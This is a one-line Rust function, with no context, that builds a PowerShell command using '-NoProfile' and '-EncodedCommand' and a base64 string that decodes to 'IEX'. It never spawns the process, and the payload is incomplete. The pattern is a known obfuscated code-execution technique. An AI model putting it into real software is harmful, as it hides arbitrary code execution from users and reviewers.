fn f() { std::process::Command::new("powershell").args(["-NoProfile", "-EncodedCommand", "SQBFAFgA"]); }
